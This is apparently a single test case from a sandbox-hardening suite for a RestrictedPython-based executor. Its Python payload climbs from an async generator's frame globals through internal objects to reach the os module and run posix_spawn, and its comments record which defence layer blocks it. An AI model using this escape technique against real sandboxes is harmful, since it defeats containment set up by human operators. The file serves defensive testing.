# attack: generator/coroutine/traceback frames
# stops: restrictedpython: AsyncFunctionDef statements are not allowed
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# an async generator's ag_frame
async def a():
    yield 1
found = a().ag_frame.f_globals
os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
